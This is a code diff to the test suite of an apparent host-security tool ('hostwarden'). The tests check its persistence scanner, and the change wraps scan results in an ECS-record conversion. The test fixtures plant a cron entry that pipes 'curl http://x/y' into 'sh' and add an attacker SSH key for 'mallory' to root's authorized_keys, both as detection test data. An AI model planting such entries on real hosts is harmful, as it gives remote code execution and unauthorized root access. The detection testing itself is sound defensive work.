@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from hostwarden.core.records import ecs_records
 from hostwarden.scan.base import ScanContext
 from hostwarden.scan.persistence import PersistenceScanner
 
@@ -63,17 +64,17 @@ def _by_path(findings: list[dict]) -> dict[str, dict]:
 def test_benign_baseline_has_no_findings(scan_env: tuple[Path, ScanContext]) -> None:
     _, ctx = scan_env
     scanner = PersistenceScanner()
-    assert scanner.scan(ctx) == []
+    assert ecs_records(scanner.scan(ctx)) == []
     assert scanner.summary["baseline"] and scanner.summary["items"] == len(BENIGN_ROOT) - 1  # passwd is no item
-    assert PersistenceScanner().scan(ctx) == []  # unchanged host, no drift
+    assert ecs_records(PersistenceScanner().scan(ctx)) == []  # unchanged host, no drift
 
 
 def test_planted_items_reported_added_and_flagged_then_removed(scan_env: tuple[Path, ScanContext]) -> None:
     root, ctx = scan_env
-    PersistenceScanner().scan(ctx)
+    ecs_records(PersistenceScanner().scan(ctx))
     for _, rel, text, _ in PLANTS:
         _write(root, rel, text)
-    found = _by_path(PersistenceScanner().scan(ctx))
+    found = _by_path(ecs_records(PersistenceScanner().scan(ctx)))
     for category, rel, _, flag in PLANTS:
         f = found.get("/" + rel)
         assert f is not None, rel
@@ -89,7 +90,7 @@ def test_planted_items_reported_added_and_flagged_then_removed(scan_env: tuple[P
 
     for _, rel, _, _ in PLANTS:
         (root / rel).unlink()
-    removed = PersistenceScanner().scan(ctx)
+    removed = ecs_records(PersistenceScanner().scan(ctx))
     assert {f["file.path"] for f in removed} == {"/" + rel for _, rel, _, _ in PLANTS}
     assert all(f["event.action"] == "persistence-removed" for f in removed)
 
@@ -97,11 +98,11 @@ def test_planted_items_reported_added_and_flagged_then_removed(scan_env: tuple[P
 def test_changed_item_and_new_key_in_existing_file(scan_env: tuple[Path, ScanContext]) -> None:
     root, ctx = scan_env
     _write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@corp\n")
-    PersistenceScanner().scan(ctx)
+    ecs_records(PersistenceScanner().scan(ctx))
     _write(root, "etc/crontab", BENIGN_ROOT["etc/crontab"] + "* * * * * root /usr/local/bin/new\n")
     _write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@corp\n"
            "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQevil mallory\n")
-    found = PersistenceScanner().scan(ctx)
+    found = ecs_records(PersistenceScanner().scan(ctx))
     drift = sorted((f["file.path"], f["hostwarden.evidence"]["drift"]) for f in found)
     assert drift == [("/etc/crontab", "changed"), ("/root/.ssh/authorized_keys", "added")]
     assert "mallory" in found[-1]["hostwarden.evidence"]["snippet"] or "mallory" in found[0]["hostwarden.evidence"]["snippet"]
@@ -109,7 +110,7 @@ def test_changed_item_and_new_key_in_existing_file(scan_env: tuple[Path, ScanCon
 
 def test_suspicious_items_reported_on_first_scan_without_state(tmp_path: Path) -> None:
     _write(tmp_path, "etc/cron.d/x", "* * * * * root curl http://x/y | sh\n")
-    found = PersistenceScanner().scan(ScanContext(root=tmp_path))
+    found = ecs_records(PersistenceScanner().scan(ScanContext(root=tmp_path)))
     assert [f["event.action"] for f in found] == ["persistence-suspicious"]
 
 
@@ -120,7 +121,7 @@ def test_damaged_state_is_a_notice_not_a_crash(scan_env: tuple[Path, ScanContext
 
     with EventStore(ctx.data_dir) as store:
         store.query("INSERT OR REPLACE INTO kv VALUES ('scan.persistence', '{not json')")
-    assert PersistenceScanner().scan(ctx) == []
+    assert ecs_records(PersistenceScanner().scan(ctx)) == []
     assert ctx.notices and ctx.notices[0]["code"] == "SCAN-9203"
     assert state_store(ctx).load("persistence")["items"]
 
